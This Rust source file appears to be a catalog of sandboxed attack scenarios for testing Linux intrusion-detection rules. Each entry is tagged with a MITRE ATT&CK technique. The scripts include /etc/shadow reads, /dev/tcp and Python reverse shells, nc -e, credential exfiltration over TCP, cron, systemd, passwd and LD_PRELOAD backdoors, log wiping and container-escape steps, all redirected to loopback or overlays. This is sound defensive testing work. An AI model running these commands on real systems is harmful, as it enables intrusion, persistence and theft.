//! The attack catalog: attacker behaviours, each safe by construction (temporary files, the
//! loopback interface, processes that end on their own), tagged with its MITRE ATT&CK tactic
//! and technique and the bundled rule(s) expected to detect it.
//!
//! How the scripts stay harmless:
//! - files an attacker would take or plant in a home directory live in `$SANDBOX/home`;
//! - system files (`/etc/cron.d`, `/etc/passwd`, `/var/log/wtmp`, ...) are changed under their
//!   real paths, but inside a private mount namespace where the directory is an overlay whose
//!   upper layer is in the sandbox (`overlaid!`): the rules see the real path, the real file
//!   never changes, and the namespace ends with the script;
//! - network traffic only goes to a listener the script starts on 127.0.0.1, or on the loopback
//!   interface of a network namespace of the script's own that has no other interface, which
//!   exits by itself within seconds;
//! - kernel-facing calls are made so that the kernel refuses or ignores them (an empty module
//!   image, an empty `bpf` attribute block, a sysctl file opened but never written);
//! - where only a command line matters to a rule and the real tool could do damage or is
//!   rarely installed (`systemctl stop`, `nc -e`), `/bin/true` under that name plays it;
//! - containers are played by a cgroup named like a docker scope plus docker state files
//!   ([`container`]); the scenario's cleanup kills whatever is left in the cgroup and removes
//!   it, and what a container would see differently from the host (a tmpfs over `/run` or
//!   `/dev`, an overlay root, an API address) is made in a mount or network namespace of the
//!   script's own.
//!
//! Every process ends by itself within about 5 s.

use super::container::{self, container_prologue, in_container, join_container};

/// What a scenario exercises.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// An attacker behaviour the rules must detect.
    Attack,
    /// A fault of the detection system itself.
    Fault,
}

/// One attacker behaviour.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Unique, kebab-case.
    pub name: &'static str,
    /// MITRE ATT&CK tactic, kebab-case (`credential-access`, `persistence`, ...).
    pub tactic: &'static str,
    /// MITRE ATT&CK technique id (`T1003.008`).
    pub technique: &'static str,
    /// Bundled rules of which any one firing counts as a detection.
    pub expected_rules: &'static [&'static str],
    /// A `/bin/sh` script performing the behaviour. `$SANDBOX` is a private temporary
    /// directory, removed afterwards; `$PYTHON` is a Python 3 interpreter. The script must not
    /// change anything outside the sandbox, or must undo it in `cleanup`.
    pub script: &'static str,
    /// Run after the script whatever happened (also when the run is interrupted), to undo
    /// changes outside the sandbox.
    pub cleanup: &'static str,
}

// ---------------------------------------------------------------------------------------------
// Shared script fragments (macros, because `concat!` only takes literals)
// ---------------------------------------------------------------------------------------------

/// Runs `$body` (no single quotes in it) in a private mount namespace where `$dir` is an
/// overlay whose upper layer is in the sandbox: the body sees the real files and "changes" them
/// under their real paths, which is what the rules look at, while every write lands in
/// `$SANDBOX` and nothing outlives the scenario. Creating the namespace also raises Namespace
/// Manipulation On Host.
macro_rules! overlaid {
    ($dir:literal, $body:literal) => {
        concat!(
            "mkdir -p \"$SANDBOX/upper\" \"$SANDBOX/work\"\n",
            "exec unshare --mount --propagation private /bin/sh -ec '",
            "mount -t overlay vigil-chaos -o \"lowerdir=",
            $dir,
            ",upperdir=$SANDBOX/upper,workdir=$SANDBOX/work\" ",
            $dir,
            "\n",
            $body,
            "'\n"
        )
    };
}

/// Starts a TCP listener on 127.0.0.1 in the background and sets `$PORT`. It takes one
/// connection within 5 s, sends `$reply` as a line (the operator's command; `close` hangs up at
/// once instead), reads until the end of the stream or 3 s, and exits. `$ports`
/// (space-separated, may be empty) are tried before an ephemeral port. Scripts end with `wait`.
macro_rules! loopback_listener {
    ($reply:literal, $ports:literal) => {
        concat!(
            r#"cat > "$SANDBOX/listener.py" <<'VIGIL_LISTENER'
import os, socket, sys, time
port_file, reply = sys.argv[1], sys.argv[2]
server = socket.socket()
for port in [int(p) for p in sys.argv[3:]] + [0]:
    try:
        server.bind(("127.0.0.1", port))
        break
    except OSError:
        pass
server.listen(4)
with open(port_file + ".tmp", "w") as f:
    f.write(str(server.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
server.settimeout(5)
try:
    conn, _ = server.accept()
except OSError:
    sys.exit(0)
if reply != "close":
    deadline = time.time() + 3
    conn.settimeout(1)
    try:
        if reply:
            conn.sendall(reply.encode() + b"\n")
        while time.time() < deadline and conn.recv(65536):
            pass
    except OSError:
        pass
conn.close()
VIGIL_LISTENER
"$PYTHON" "$SANDBOX/listener.py" "$SANDBOX/port" ""#,
            $reply,
            "\" ",
            $ports,
            r#" &
i=0
while [ ! -s "$SANDBOX/port" ] && [ "$i" -lt 500 ]; do sleep 0.01; i=$((i + 1)); done
PORT=$(cat "$SANDBOX/port")
"#
        )
    };
}

/// Makes `ssh` available: the real client, or where none is installed a stand-in of that name
/// that only opens the TCP connection to `-p PORT` on 127.0.0.1 (all the rules look at).
macro_rules! ssh_client {
    () => {
        r#"if ! command -v ssh > /dev/null 2>&1; then
    mkdir -p "$SANDBOX/bin"
    printf '#!%s\nimport socket, sys\nargs = sys.argv\nsocket.create_connection(("127.0.0.1", int(args[args.index("-p") + 1])), 3).close()\n' "$PYTHON" > "$SANDBOX/bin/ssh"
    chmod 755 "$SANDBOX/bin/ssh"
    PATH="$SANDBOX/bin:$PATH"
fi
"#
    };
}

/// A fake SSH private key in the sandbox's home directory.
macro_rules! seed_ssh_key {
    () => {
        r#"mkdir -p "$SANDBOX/home/.ssh"
printf '%s\n' '-----BEGIN OPENSSH PRIVATE KEY-----' 'dmlnaWwtY2hhb3Mtbm90LWEtcmVhbC1rZXk=' '-----END OPENSSH PRIVATE KEY-----' > "$SANDBOX/home/.ssh/id_ed25519"
"#
    };
}

/// Fake AWS credentials in the sandbox's home directory.
macro_rules! seed_aws_credentials {
    () => {
        r#"mkdir -p "$SANDBOX/home/.aws"
printf '[default]\naws_access_key_id = AKIAVIGILCHAOSEXAMPLE\naws_secret_access_key = vigil-chaos-not-a-real-secret\n' > "$SANDBOX/home/.aws/credentials"
"#
    };
}

// ---------------------------------------------------------------------------------------------
// The catalog
// ---------------------------------------------------------------------------------------------

/// Every attack, in catalog order. Each raises its expected rule once per run where that stays
/// realistic (reverse shells put a socket on all three standard streams). The order keeps side
/// alerts away from the attacks soon after that expect the same rule: nothing that raises
/// Namespace Manipulation On Host (the overlays) runs before `nsenter-mount-namespace`, and
/// searches that read keys or credentials run after the reads that expect those rules.
pub const ATTACKS: &[Attack] = &[
    // --- credential access -------------------------------------------------------------------
    Attack {
        name: "read-shadow-file",
        tactic: "credential-access",
        technique: "T1003.008",
        expected_rules: &["Account Secrets File Read"],
        script: "cat /etc/shadow > /dev/null\n",
        cleanup: "",
    },
    Attack {
        name: "steal-ssh-private-key",
        tactic: "credential-access",
        technique: "T1552.004",
        expected_rules: &["SSH Private Key Read"],
        script: concat!(
            seed_ssh_key!(),
            r#"cp "$SANDBOX/home/.ssh/id_ed25519" "$SANDBOX/loot"
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "grep-private-keys",
        tactic: "credential-access",
        technique: "T1552.004",
        expected_rules: &["Private Key Hunting"],
        script: concat!(
            seed_ssh_key!(),
            r#"grep -rl "BEGIN OPENSSH PRIVATE KEY" "$SANDBOX/home" > /dev/null
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "read-cloud-credentials",
        tactic: "credential-access",
        technique: "T1552.001",
        expected_rules: &["Cloud Or Cluster Credentials Read"],
        script: concat!(
            seed_aws_credentials!(),
            r#"cat "$SANDBOX/home/.aws/credentials" > /dev/null
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "grep-cloud-keys",
        tactic: "credential-access",
        technique: "T1552.001",
        expected_rules: &["Cloud Secret Hunting"],
        script: concat!(
            seed_aws_credentials!(),
            r#"grep -ril aws_secret_access_key "$SANDBOX/home" > /dev/null
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "grep-passwords",
        tactic: "credential-access",
        technique: "T1552.001",
        expected_rules: &["Recursive Password Search"],
        script: r#"mkdir -p "$SANDBOX/srv/app"
printf '[database]\nuser = app\npassword = vigil-chaos\n' > "$SANDBOX/srv/app/settings.ini"
grep -rni password "$SANDBOX/srv" > /dev/null
"#,
        cleanup: "",
    },
    // A secret read out of another process's memory (what mimipenguin does to login and sshd
    // processes): the victim is a forked child, so the secret's address is known without
    // reading its maps.
    Attack {
        name: "dump-process-memory",
        tactic: "credential-access",
        technique: "T1003.007",
        expected_rules: &["Process Memory Read Through Procfs"],
        script: r#""$PYTHON" -c 'import ctypes, os, signal, time
secret = b"vigil-chaos-password"
address = ctypes.cast(ctypes.c_char_p(secret), ctypes.c_void_p).value
victim = os.fork()
if victim == 0:
    time.sleep(5)
    os._exit(0)
with open("/proc/%d/mem" % victim, "rb") as mem:
    mem.seek(address)
    assert mem.read(len(secret)) == secret
os.kill(victim, signal.SIGKILL)
os.waitpid(victim, 0)'
"#,
        cleanup: "",
    },
    // A link to /etc/shadow planted in a directory a web server serves.
    Attack {
        name: "symlink-to-shadow",
        tactic: "credential-access",
        technique: "T1003.008",
        expected_rules: &["Symbolic Link To Sensitive File"],
        script: r#"mkdir -p "$SANDBOX/www"
ln -s /etc/shadow "$SANDBOX/www/robots.txt"
"#,
        cleanup: "",
    },
    // The rule reports attempts: this one fails (the link's directory does not exist), so no
    // second name of /etc/shadow ever exists.
    Attack {
        name: "hardlink-to-shadow",
        tactic: "credential-access",
        technique: "T1003.008",
        expected_rules: &["Hard Link To Sensitive File"],
        script: r#"ln /etc/shadow "$SANDBOX/missing/shadow" 2> /dev/null
true
"#,
        cleanup: "",
    },
    // --- initial access ----------------------------------------------------------------------
    // A web application with a file-read bug. The open happens in a forked child because the
    // rule skips commands typed in a shell, i.e. processes whose parent is a shell.
    Attack {
        name: "path-traversal-read",
        tactic: "initial-access",
        technique: "T1190",
        expected_rules: &["Sensitive File Reached Through Path Traversal"],
        script: r#"mkdir -p "$SANDBOX/www/uploads"
"$PYTHON" -c 'import os, sys
child = os.fork()
if child == 0:
    with open(os.path.join(sys.argv[1], "uploads", "../../../../../../../../../etc/passwd")) as f:
        f.read()
    os._exit(0)
os.waitpid(child, 0)' "$SANDBOX/www"
"#,
        cleanup: "",
    },
    // --- discovery ---------------------------------------------------------------------------
    Attack {
        name: "find-ssh-keys",
        tactic: "discovery",
        technique: "T1083",
        expected_rules: &["Private Key Hunting"],
        script: concat!(
            seed_ssh_key!(),
            r#"find "$SANDBOX/home" -name id_rsa -o -name id_ed25519 > /dev/null
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "find-cloud-credentials",
        tactic: "discovery",
        technique: "T1083",
        expected_rules: &["Cloud Secret Hunting"],
        script: concat!(
            seed_aws_credentials!(),
            r#"find "$SANDBOX/home" -path "*/.aws/credentials" -o -path "*/.kube/config" > /dev/null
"#
        ),
        cleanup: "",
    },
    // --- privilege escalation ----------------------------------------------------------------
    // Entering another process's mount namespace, as `nsenter -t 1 -m` does from a privileged
    // container; the target here is a process of the scenario's own.
    Attack {
        name: "nsenter-mount-namespace",
        tactic: "privilege-escalation",
        technique: "T1611",
        expected_rules: &["Namespace Manipulation On Host"],
        script: r#"sleep 5 &
target=$!
nsenter --target "$target" --mount -- /bin/true
kill "$target"
"#,
        cleanup: "",
    },
    // A setuid-root copy of a harmless program; a real attacker would copy a shell.
    Attack {
        name: "setuid-backdoor",
        tactic: "privilege-escalation",
        technique: "T1548.001",
        expected_rules: &["Setuid Or Setgid Bit Set"],
        script: r#"cp /bin/true "$SANDBOX/.sshd-helper"
chmod 4755 "$SANDBOX/.sshd-helper"
"#,
        cleanup: "",
    },
    Attack {
        name: "sudoers-nopasswd",
        tactic: "privilege-escalation",
        technique: "T1548.003",
        expected_rules: &["Sudoers Policy Modified"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/sudoers.d
echo "nobody ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/vigil-chaos"#
        ),
        cleanup: "",
    },
    // What an exploited setuid program does: drop to a user keeping root as the saved uid, then
    // switch back. The rule only counts sessions whose login user is not root, so the subshell
    // first takes a non-root login uid (a per-process audit attribute, gone with the process).
    Attack {
        name: "regain-root-uid",
        tactic: "privilege-escalation",
        technique: "T1068",
        expected_rules: &["Root Identity Assumed By Unexpected Program"],
        script: r#"(
    echo 4242 > /proc/self/loginuid 2> /dev/null
    exec "$PYTHON" -c 'import os; os.setresuid(4242, 4242, 0); os.setresuid(0, 0, 0)'
)
"#,
        cleanup: "",
    },
    Attack {
        name: "ptrace-attach",
        tactic: "privilege-escalation",
        technique: "T1055.008",
        expected_rules: &["Process Injection Via Ptrace"],
        script: r#""$PYTHON" -c 'import ctypes, os, signal, time
victim = os.fork()
if victim == 0:
    time.sleep(5)
    os._exit(0)
PTRACE_ATTACH = 16
ctypes.CDLL(None, use_errno=True).ptrace(PTRACE_ATTACH, victim, None, None)
os.kill(victim, signal.SIGKILL)
os.waitpid(victim, 0)'
"#,
        cleanup: "",
    },
    // Opened for writing and closed without a write: the kernel's crash handler is unchanged.
    Attack {
        name: "core-pattern-hijack",
        tactic: "privilege-escalation",
        technique: "T1611",
        expected_rules: &["Kernel Helper Path Hijacked"],
        script: r#""$PYTHON" -c 'import os; os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))'
"#,
        cleanup: "",
    },
    // The write step of the cgroup v1 release_agent escape (CVE-2022-0492), against files in
    // the sandbox: a real hierarchy's release_agent is shared by the whole host.
    Attack {
        name: "cgroup-release-agent",
        tactic: "privilege-escalation",
        technique: "T1611",
        expected_rules: &["Cgroup Release Agent Written"],
        script: r#"mkdir -p "$SANDBOX/cgroup/x"
echo 1 > "$SANDBOX/cgroup/x/notify_on_release"
echo "$SANDBOX/payload.sh" > "$SANDBOX/cgroup/release_agent"
"#,
        cleanup: "",
    },
    // --- execution ---------------------------------------------------------------------------
    // Remote code execution in a web server: a copy of the shell named nginx plays the server.
    Attack {
        name: "web-server-spawns-shell",
        tactic: "execution",
        technique: "T1059.004",
        expected_rules: &["Shell Launched By Network Service"],
        script: r#"cp /bin/sh "$SANDBOX/nginx"
"$SANDBOX/nginx" -c 'sh -c "id; uname -a" > /dev/null; true'
"#,
        cleanup: "",
    },
    Attack {
        name: "bash-reverse-shell",
        tactic: "execution",
        technique: "T1059.004",
        expected_rules: &["Standard Stream Redirected To Network Socket"],
        script: concat!(
            loopback_listener!("id; exit", ""),
            r#"bash -c 'exec 0<>"/dev/tcp/127.0.0.1/$1" 1>&0 2>&0; exec /bin/sh' reverse-shell "$PORT"
wait
"#
        ),
        cleanup: "",
    },
    // Only the command line matters to the rule, and netcat builds with -e are rare: /bin/true
    // named nc plays it.
    Attack {
        name: "netcat-command-shell",
        tactic: "execution",
        technique: "T1059.004",
        expected_rules: &["Network Relay Tool Executing Commands"],
        script: r#"cp /bin/true "$SANDBOX/nc"
"$SANDBOX/nc" -e /bin/sh 127.0.0.1 4444
"#,
        cleanup: "",
    },
    // A private tmpfs on /dev/shm: nothing is left in the real one, and it is never noexec.
    Attack {
        name: "run-from-dev-shm",
        tactic: "execution",
        technique: "T1059.004",
        expected_rules: &["Program Executed From Shared Memory"],
        script: r#"exec unshare --mount --propagation private /bin/sh -ec 'mount -t tmpfs vigil-chaos /dev/shm
cp /bin/true /dev/shm/.kworker
/dev/shm/.kworker'
"#,
        cleanup: "",
    },
    // --- persistence -------------------------------------------------------------------------
    Attack {
        name: "cron-job",
        tactic: "persistence",
        technique: "T1053.003",
        expected_rules: &["Scheduled Task Configuration Written"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/cron.d
echo "* * * * * root $SANDBOX/payload.sh" > /etc/cron.d/vigil-chaos"#
        ),
        cleanup: "",
    },
    Attack {
        name: "systemd-service",
        tactic: "persistence",
        technique: "T1543.002",
        expected_rules: &["Systemd Unit Written"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/systemd/system
printf "[Service]\nExecStart=%s/payload.sh\n[Install]\nWantedBy=multi-user.target\n" "$SANDBOX" > /etc/systemd/system/vigil-chaos.service"#
        ),
        cleanup: "",
    },
    Attack {
        name: "rc-local-boot-script",
        tactic: "persistence",
        technique: "T1037.004",
        expected_rules: &["Boot Script Written"],
        script: overlaid!("/etc", r#"echo "$SANDBOX/payload.sh &" >> /etc/rc.local"#),
        cleanup: "",
    },
    Attack {
        name: "ssh-authorized-key",
        tactic: "persistence",
        technique: "T1098.004",
        expected_rules: &["SSH Authorized Keys Written"],
        script: r#"mkdir -p "$SANDBOX/home/.ssh"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHZpZ2lsLWNoYW9zLW5vdC1hLXJlYWwta2V5 attacker" >> "$SANDBOX/home/.ssh/authorized_keys"
"#,
        cleanup: "",
    },
    Attack {
        name: "sshd-permit-root-login",
        tactic: "persistence",
        technique: "T1098.004",
        expected_rules: &["SSH Server Configuration Written"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/ssh
echo "PermitRootLogin yes" >> /etc/ssh/sshd_config"#
        ),
        cleanup: "",
    },
    Attack {
        name: "bashrc-implant",
        tactic: "persistence",
        technique: "T1546.004",
        expected_rules: &["User Shell Startup File Modified"],
        script: r#"mkdir -p "$SANDBOX/home"
echo "$SANDBOX/payload.sh > /dev/null 2>&1 &" >> "$SANDBOX/home/.bashrc"
"#,
        cleanup: "",
    },
    Attack {
        name: "profile-d-implant",
        tactic: "persistence",
        technique: "T1546.004",
        expected_rules: &["System Shell Profile Modified"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/profile.d
echo "$SANDBOX/payload.sh > /dev/null 2>&1 &" > /etc/profile.d/vigil-chaos.sh"#
        ),
        cleanup: "",
    },
    Attack {
        name: "ld-preload-rootkit",
        tactic: "persistence",
        technique: "T1574.006",
        expected_rules: &["Dynamic Linker Preload Configured"],
        script: overlaid!(
            "/etc",
            r#"echo "$SANDBOX/libprocesshider.so" > /etc/ld.so.preload"#
        ),
        cleanup: "",
    },
    Attack {
        name: "linker-search-path",
        tactic: "persistence",
        technique: "T1574.006",
        expected_rules: &["Library Search Path Modified"],
        script: overlaid!(
            "/etc",
            r#"mkdir -p /etc/ld.so.conf.d
echo "$SANDBOX/lib" > /etc/ld.so.conf.d/00-vigil-chaos.conf"#
        ),
        cleanup: "",
    },
    Attack {
        name: "backdoor-root-account",
        tactic: "persistence",
        technique: "T1136.001",
        expected_rules: &["Local Account Database Modified"],
        script: overlaid!(
            "/etc",
            r#"echo "vigil-chaos:x:0:0::/root:/bin/sh" >> /etc/passwd"#
        ),
        cleanup: "",
    },
    // An empty module image: the kernel refuses it (or has no module support); nothing loads.
    Attack {
        name: "kernel-module-load",
        tactic: "persistence",
        technique: "T1547.006",
        expected_rules: &["Kernel Module Load On Host"],
        script: r#""$PYTHON" -c 'import ctypes; ctypes.CDLL(None, use_errno=True).init_module(b"", 0, b"")'
"#,
        cleanup: "",
    },
    // --- defense evasion ---------------------------------------------------------------------
    Attack {
        name: "clear-shell-history",
        tactic: "defense-evasion",
        technique: "T1070.003",
        expected_rules: &["Shell History Tampered"],
        script: r#"mkdir -p "$SANDBOX/home"
ln -sf /dev/null "$SANDBOX/home/.bash_history"
"#,
        cleanup: "",
    },
    Attack {
        name: "truncate-login-records",
        tactic: "defense-evasion",
        technique: "T1070.002",
        expected_rules: &["Log File Truncated"],
        script: overlaid!("/var/log", ": > /var/log/wtmp"),
        cleanup: "",
    },
    // Appending nothing makes sure there is a wtmp to delete.
    Attack {
        name: "delete-login-records",
        tactic: "defense-evasion",
        technique: "T1070.002",
        expected_rules: &["Log File Deleted Or Moved Away"],
        script: overlaid!(
            "/var/log",
            ": >> /var/log/wtmp
rm /var/log/wtmp"
        ),
        cleanup: "",
    },
    Attack {
        name: "timestomp-implant",
        tactic: "defense-evasion",
        technique: "T1070.006",
        expected_rules: &["File Timestamps Forged"],
        script: r#"cp /bin/true "$SANDBOX/implant"
touch -r /bin/sh "$SANDBOX/implant"
"#,
        cleanup: "",
    },
    // Only the command line matters to the rule: /bin/true named systemctl plays it, so
    // nothing is stopped.
    Attack {
        name: "stop-security-services",
        tactic: "defense-evasion",
        technique: "T1562.001",
        expected_rules: &["Security Monitoring Disabled"],
        script: r#"cp /bin/true "$SANDBOX/systemctl"
"$SANDBOX/systemctl" stop auditd falco
"#,
        cleanup: "",
    },
    // bpf(BPF_PROG_LOAD) with an empty attribute block: the kernel rejects it.
    Attack {
        name: "load-bpf-program",
        tactic: "defense-evasion",
        technique: "T1014",
        expected_rules: &["BPF Program Loaded By Unexpected Program"],
        script: r#""$PYTHON" -c 'import ctypes, os
SYS_bpf = {"x86_64": 321, "aarch64": 280, "riscv64": 280, "loongarch64": 280, "ppc64le": 361, "s390x": 351}[os.uname().machine]
BPF_PROG_LOAD = 5
ctypes.CDLL(None, use_errno=True).syscall(SYS_bpf, BPF_PROG_LOAD, None, 0)'
"#,
        cleanup: "",
    },
    Attack {
        name: "ptrace-traceme",
        tactic: "defense-evasion",
        technique: "T1622",
        expected_rules: &["Anti-Debugging Via PTRACE_TRACEME"],
        script: r#""$PYTHON" -c 'import ctypes; PTRACE_TRACEME = 0; ctypes.CDLL(None, use_errno=True).ptrace(PTRACE_TRACEME, 0, None, None)'
"#,
        cleanup: "",
    },
    Attack {
        name: "memfd-fileless-exec",
        tactic: "defense-evasion",
        technique: "T1620",
        expected_rules: &["Fileless Program Execution"],
        script: r#""$PYTHON" -c 'import os
fd = os.memfd_create("payload")
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
os.execv("/proc/self/fd/%d" % fd, ["payload"])'
"#,
        cleanup: "",
    },
    // --- impact ------------------------------------------------------------------------------
    Attack {
        name: "shred-files",
        tactic: "impact",
        technique: "T1485",
        expected_rules: &["Bulk Data Destruction Tool Run"],
        script: r#"head -c 65536 /dev/urandom > "$SANDBOX/customers.db"
shred -u "$SANDBOX/customers.db"
"#,
        cleanup: "",
    },
    // --- lateral movement --------------------------------------------------------------------
    // An SSH session running commands as a system account: a copy of the shell named sshd
    // plays the daemon, setpriv the switch to uid 1.
    Attack {
        name: "service-account-ssh-session",
        tactic: "lateral-movement",
        technique: "T1021.004",
        expected_rules: &["Service Account Running Interactive Commands"],
        script: r#"cp /bin/sh "$SANDBOX/sshd"
"$SANDBOX/sshd" -c 'setpriv --reuid=1 --regid=1 --clear-groups id > /dev/null; true'
"#,
        cleanup: "",
    },
    // --- command and control -----------------------------------------------------------------
    // A raw TCP command channel; the listener plays the operator and sends one command.
    Attack {
        name: "python-reverse-shell",
        tactic: "command-and-control",
        technique: "T1095",
        expected_rules: &["Standard Stream Redirected To Network Socket"],
        script: concat!(
            loopback_listener!("id; exit", ""),
            r#""$PYTHON" -c 'import os, socket, sys
channel = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(channel.fileno(), fd)
os.execv("/bin/sh", ["sh"])' "$PORT"
wait
"#
        ),
        cleanup: "",
    },
    // The listener hangs up at once, so ssh gives up right after connecting.
    Attack {
        name: "ssh-reverse-tunnel",
        tactic: "command-and-control",
        technique: "T1572",
        expected_rules: &["SSH Reverse Tunnel Requested"],
        script: concat!(
            ssh_client!(),
            loopback_listener!("close", ""),
            r#"timeout 5 ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -N -R 18022:127.0.0.1:22 -p "$PORT" chaos@127.0.0.1
wait
"#
        ),
        cleanup: "",
    },
    Attack {
        name: "ssh-over-disguised-port",
        tactic: "command-and-control",
        technique: "T1571",
        expected_rules: &["SSH Client Connecting To Unusual Port"],
        script: concat!(
            ssh_client!(),
            loopback_listener!("close", "4444 8443 8888 9001 31337 1337 5555 6666"),
            r#"timeout 5 ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p "$PORT" chaos@127.0.0.1 true
wait
"#
        ),
        cleanup: "",
    },
    // --- exfiltration ------------------------------------------------------------------------
    // Reading the credentials also raises Cloud Or Cluster Credentials Read; the channel is what
    // makes it exfiltration.
    Attack {
        name: "exfiltrate-credentials-over-tcp",
        tactic: "exfiltration",
        technique: "T1048.003",
        expected_rules: &["Standard Stream Redirected To Network Socket"],
        script: concat!(
            seed_aws_credentials!(),
            loopback_listener!("", ""),
            r#"bash -c 'cat "$1" > "/dev/tcp/127.0.0.1/$2"' exfiltrate "$SANDBOX/home/.aws/credentials" "$PORT"
wait
"#
        ),
        cleanup: "",
    },
    // --- container escape and container workloads ---------------------------------------------
    // Each plays a container with a cgroup named like a docker scope and docker state files
    // (`chaos::container`): the prologue creates them and the shell joins the cgroup, so the
    // action runs "in the container" while nothing is isolated; the cleanup kills whatever is
    // left in the cgroup and removes it. Set-up the action needs (a private mount or network
    // namespace) happens before joining, on the host side, as a runtime would prepare it.

    // `nsenter -t <host pid>` is how an escape with a shared PID namespace reaches the host. The
    // target is a sleep started before joining, so the namespaces joined are the ones the
    // script already has.
    Attack {
        name: "container-nsenter-host",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Host Namespace Joined From Container"],
        script: concat!(
            container_prologue!("true"),
            "sleep 5 &\nhost_process=$!\n",
            join_container!(),
            r#"nsenter --target "$host_process" --mount --uts --ipc --net -- /bin/true
kill "$host_process"
"#
        ),
        cleanup: container::CLEANUP,
    },
    // A user namespace with root mapped: full capabilities inside it, the usual first step of
    // the release_agent escape. Nothing is mounted (the propagation is left alone).
    Attack {
        name: "container-unshare-user-namespace",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Namespace Created Inside Container"],
        script: in_container!(
            "false",
            "unshare --user --map-root-user --mount --propagation unchanged /bin/true\n"
        ),
        cleanup: container::CLEANUP,
    },
    // Mounting the host's disk from a privileged container. The target directory does not
    // exist: the kernel refuses the call (ENOENT) before it looks at the device or the file
    // system type.
    Attack {
        name: "container-mount-host-disk",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Mount Performed Inside Container"],
        script: in_container!(
            "true",
            r#""$PYTHON" -c 'import ctypes, os, sys
MS_RDONLY = 1
ctypes.CDLL(None, use_errno=True).mount(b"/dev/sda1", os.fsencode(sys.argv[1]), b"ext4", MS_RDONLY, None)' "${SANDBOX:?}/host-disk"
"#
        ),
        cleanup: container::CLEANUP,
    },
    // An empty module image: the kernel refuses it; nothing loads.
    Attack {
        name: "container-kernel-module",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Kernel Module Load From Container"],
        script: in_container!(
            "true",
            r#""$PYTHON" -c 'import ctypes; ctypes.CDLL(None, use_errno=True).init_module(b"", 0, b"")'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // A container with the Docker socket mounted asks the API for its containers. The "daemon"
    // is a listener on a private tmpfs over /run, in a mount namespace of the script's own: the
    // real socket, if any, is never reached. The client waits for the listener's ready file,
    // written after listen(): the socket file exists from bind() on, when a connection is still
    // refused.
    Attack {
        name: "container-docker-socket",
        tactic: "container-escape",
        technique: "T1610",
        expected_rules: &["Container Runtime Socket Used From Container"],
        script: concat!(
            container_prologue!("false"),
            r#"cat > "${SANDBOX:?}/docker-api.py" <<'VIGIL_DOCKER_API'
import socket, sys
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
server.listen(1)
open(sys.argv[2], "w").close()
server.settimeout(5)
try:
    conn, _ = server.accept()
    conn.settimeout(2)
    conn.recv(65536)
    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n\r\n[]\n")
    conn.close()
except OSError:
    pass
VIGIL_DOCKER_API
cat > "${SANDBOX:?}/docker-client.py" <<'VIGIL_DOCKER_CLIENT'
import socket, sys
api = socket.socket(socket.AF_UNIX)
api.settimeout(3)
api.connect(sys.argv[1])
api.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
api.recv(65536)
VIGIL_DOCKER_CLIENT
exec unshare --mount --propagation private /bin/sh -ec 'mount -t tmpfs vigil-chaos /run
[ -L /var/run ] || mount -t tmpfs vigil-chaos /var/run
"$PYTHON" "${SANDBOX:?}/docker-api.py" /var/run/docker.sock "${SANDBOX:?}/api-ready" &
i=0
while [ ! -e "${SANDBOX:?}/api-ready" ] && [ "$i" -lt 500 ]; do sleep 0.01; i=$((i + 1)); done
"#,
            join_container!(),
            r#""$PYTHON" "${SANDBOX:?}/docker-client.py" /var/run/docker.sock
wait'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // Reading the first sector of the host's disk from a privileged container. /dev/sda is a
    // file on a private tmpfs over /dev, in a mount namespace of the script's own.
    Attack {
        name: "container-raw-disk-read",
        tactic: "container-escape",
        technique: "T1006",
        expected_rules: &["Block Device Opened In Container"],
        script: concat!(
            container_prologue!("true"),
            r#"exec unshare --mount --propagation private /bin/sh -ec 'mount -t tmpfs vigil-chaos /dev
printf "vigil-chaos stand-in disk\n" > /dev/sda
"#,
            join_container!(),
            r#"dd if=/dev/sda of="${SANDBOX:?}/sector" bs=512 count=1'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // debugfs edits the host's file system through its disk; /bin/true under that name plays
    // it, in a container whose docker state says privileged.
    Attack {
        name: "container-debugfs-privileged",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Debugfs Run In Privileged Container"],
        script: in_container!(
            "true",
            r#"cp /bin/true "${SANDBOX:?}/debugfs"
"${SANDBOX:?}/debugfs" -w /dev/sda1
"#
        ),
        cleanup: container::CLEANUP,
    },
    // Opened for writing and closed without a write: the kernel's crash handler is unchanged.
    Attack {
        name: "container-core-pattern",
        tactic: "container-escape",
        technique: "T1611",
        expected_rules: &["Kernel Helper Path Hijacked"],
        script: in_container!(
            "true",
            r#""$PYTHON" -c 'import os; os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))'
"#
        ),
        cleanup: container::CLEANUP,
    },
    // The write step of CVE-2022-0492 from a container, against files in the sandbox: a real
